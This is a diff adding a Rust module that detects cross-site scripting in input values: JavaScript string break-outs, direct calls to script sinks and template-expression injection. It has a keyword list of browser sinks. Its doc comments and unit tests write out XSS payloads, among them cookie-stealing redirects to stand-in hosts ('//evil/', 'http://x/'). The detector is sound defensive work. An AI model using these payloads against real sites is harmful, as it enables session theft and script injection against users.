@@ -1,0 +1,257 @@
+//! JavaScript structure: a value that, inside a JS string, closes the string and continues
+//! with code that calls a script sink (`';alert(1);//`, `\";alert(1)//`, `'-alert(1)-'`), a
+//! value that *is* such a call (it lands in an event handler or `javascript:` URL), and
+//! client-side template expressions that reach the `Function` constructor
+//! (`{{constructor.constructor('…')()}}`).
+
+/// How many quote positions are tried as break-out points.
+const MAX_QUOTES: usize = 32;
+
+fn is_ident_start(b: u8) -> bool {
+    b.is_ascii_alphabetic() || b == b'_' || b == b'$'
+}
+
+fn is_ident(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b == b'_' || b == b'$'
+}
+
+/// Globals and members through which injected script acts. These are the browser's API, the
+/// thing a payload must reach to do harm.
+fn sink(name: &[u8]) -> bool {
+    let mut buf = [0u8; 24];
+    if name.len() > buf.len() {
+        return false;
+    }
+    for (d, s) in buf.iter_mut().zip(name) {
+        *d = s.to_ascii_lowercase();
+    }
+    matches!(
+        &buf[..name.len()],
+        b"alert"
+            | b"prompt"
+            | b"confirm"
+            | b"eval"
+            | b"settimeout"
+            | b"setinterval"
+            | b"execscript"
+            | b"function"
+            | b"constructor"
+            | b"fetch"
+            | b"import"
+            | b"document"
+            | b"window"
+            | b"self"
+            | b"top"
+            | b"parent"
+            | b"frames"
+            | b"globalthis"
+            | b"this"
+            | b"location"
+            | b"xmlhttprequest"
+            | b"atob"
+            | b"string"
+            | b"fromcharcode"
+            | b"open"
+            | b"print"
+            | b"console"
+            | b"navigator"
+            | b"msgbox"
+            | b"cookie"
+            | b"write"
+            | b"writeln"
+            | b"innerhtml"
+            | b"outerhtml"
+            | b"src"
+            | b"href"
+            | b"domain"
+            | b"body"
+            | b"createelement"
+            | b"appendchild"
+            | b"sendbeacon"
+            | b"unescape"
+            | b"decodeuricomponent"
+            | b"reflect"
+            | b"jquery"
+    )
+}
+
+/// Sinks that may be called directly at the start of a value (no member access needed).
+fn direct_sink(name: &[u8]) -> bool {
+    let lower: Vec<u8> = name.iter().map(u8::to_ascii_lowercase).collect();
+    matches!(
+        &lower[..],
+        b"alert" | b"prompt" | b"confirm" | b"eval" | b"settimeout" | b"setinterval" | b"fetch"
+            | b"execscript" | b"msgbox" | b"atob" | b"import"
+    )
+}
+
+/// Read an expression head at `i`: `ident(.ident | [..])*` and what ends it. Returns
+/// (saw a sink, saw member access, index after the chain).
+fn chain(b: &[u8], mut i: usize) -> Option<(bool, bool, bool, usize)> {
+    if i >= b.len() || !is_ident_start(b[i]) {
+        return None;
+    }
+    let mut any_sink = false;
+    let mut direct = false;
+    let mut member = false;
+    let mut parts = 0;
+    loop {
+        let st = i;
+        while i < b.len() && is_ident(b[i]) && i - st < 40 {
+            i += 1;
+        }
+        let name = &b[st..i];
+        if sink(name) {
+            any_sink = true;
+        }
+        if parts == 0 && direct_sink(name) {
+            direct = true;
+        }
+        parts += 1;
+        if parts > 8 {
+            break;
+        }
+        match b.get(i) {
+            Some(b'.') if b.get(i + 1).is_some_and(|&c| is_ident_start(c)) => {
+                member = true;
+                i += 1;
+            }
+            Some(b'[') => {
+                // computed member: skip to the matching `]` (bounded)
+                member = true;
+                let close = b[i..].iter().take(128).position(|&c| c == b']')?;
+                // `top['al'+'ert']` hides the name: count the bracket itself as a sink use
+                any_sink = true;
+                i += close + 1;
+                if b.get(i) == Some(&b'.') && b.get(i + 1).is_some_and(|&c| is_ident_start(c)) {
+                    i += 1;
+                } else {
+                    break;
+                }
+            }
+            _ => break,
+        }
+    }
+    Some((any_sink, direct, member, i))
+}
+
+/// Does a call (`(` or a tagged template) or an assignment (`=` but not `==`) follow at `i`?
+fn call_or_assign(b: &[u8], i: usize) -> bool {
+    match b.get(i) {
+        Some(b'(') | Some(b'`') => true,
+        Some(b'=') => b.get(i + 1) != Some(&b'='),
+        _ => false,
+    }
+}
+
+fn skip_ws(b: &[u8], mut i: usize) -> usize {
+    while i < b.len() && matches!(b[i], b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c) {
+        i += 1;
+    }
+    i
+}
+
+/// A quote (optionally escaped with `\`) followed by an operator or statement separator and
+/// then a call or assignment through a script sink.
+pub fn string_breakout(s: &str) -> bool {
+    let b = s.as_bytes();
+    let mut tried = 0;
+    let mut i = 0;
+    while i < b.len() && tried < MAX_QUOTES {
+        let c = b[i];
+        i += 1;
+        if !matches!(c, b'\'' | b'"' | b'`') {
+            continue;
+        }
+        tried += 1;
+        let mut j = skip_ws(b, i);
+        // closing brackets and separators between the string and the new code
+        let mut seps = 0;
+        let mut saw_sep = false;
+        while j < b.len() && seps < 8 {
+            match b[j] {
+                b';' | b'+' | b'-' | b'*' | b'/' | b'%' | b'|' | b'&' | b'^' | b',' | b'?' | b':'
+                | b'<' | b'>' | b'=' | b'!' | b'~' | b'\n' => saw_sep = true,
+                b')' | b'}' | b']' => {}
+                b' ' | b'\t' | b'\r' => {}
+                _ => break,
+            }
+            // `//` starts a comment, not code
+            if b[j] == b'/' && b.get(j + 1) == Some(&b'/') {
+                saw_sep = false;
+                break;
+            }
+            j += 1;
+            seps += 1;
+        }
+        if !saw_sep {
+            continue;
+        }
+        if let Some((any_sink, _direct, member, e)) = chain(b, j) {
+            // `alert (1)` is valid JS, but prose puts spaces there ("open (24h)"): accept a
+            // space before the call only after a member access.
+            let at = if member { skip_ws(b, e) } else { e };
+            if any_sink && call_or_assign(b, at) {
+                return true;
+            }
+        }
+    }
+    false
+}
+
+/// The value is itself a script call through a sink: `alert(1)`, `alert`1``,
+/// `document.location='//evil/'+document.cookie`, `top['al'+'ert'](1)`.
+pub fn sink_call(s: &str) -> bool {
+    let t = s.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == ';' || c == '(');
+    let b = t.as_bytes();
+    let Some((any_sink, direct, member, e)) = chain(b, 0) else {
+        return false;
+    };
+    if !any_sink {
+        return false;
+    }
+    let e2 = skip_ws(b, e);
+    let ok_shape = if direct { b.get(e2).is_some_and(|&c| c == b'(' || c == b'`') && e2 == e } else { member };
+    ok_shape && call_or_assign(b, e2)
+}
+
+/// `{{ … }}` template expression reaching code: a call, the `constructor` chain, or `$eval`.
+pub fn template_injection(s: &str) -> bool {
+    let b = s.as_bytes();
+    let Some(open) = memchr::memmem::find(b, b"{{") else {
+        return false;
+    };
+    let body_end = memchr::memmem::find(&b[open..], b"}}").map_or(b.len(), |p| open + p);
+    let body = &b[open + 2..body_end];
+    let lower: Vec<u8> = body.iter().take(512).map(u8::to_ascii_lowercase).collect();
+    let has = |n: &[u8]| memchr::memmem::find(&lower, n).is_some();
+    has(b"constructor") || has(b"$eval") || has(b"$on") || has(b"alert(") || has(b"__proto__")
+        || (has(b"(") && (has(b"tostring") || has(b"charat") || has(b"fromcharcode") || has(b"window") || has(b"document")))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn breakouts() {
+        assert!(string_breakout("';alert(1);//"));
+        assert!(string_breakout("\\\";alert(1)//"));
+        assert!(string_breakout("'-alert(1)-'"));
+        assert!(string_breakout("\"+alert(document.cookie)+\""));
+        assert!(string_breakout("');top['al'+'ert'](1);//"));
+        assert!(!string_breakout("it's fine; alert me later"));
+        assert!(!string_breakout("\"quoted\" - open (24h)"));
+    }
+
+    #[test]
+    fn sinks_and_templates() {
+        assert!(sink_call("alert(1)"));
+        assert!(sink_call("alert`1`"));
+        assert!(sink_call("document.location='http://x/?'+document.cookie"));
+        assert!(!sink_call("Alert (red) level"));
+        assert!(!sink_call("window cleaning"));
+        assert!(template_injection("{{constructor.constructor('alert(1)')()}}"));
+        assert!(!template_injection("{{ name }}"));
+    }
+}
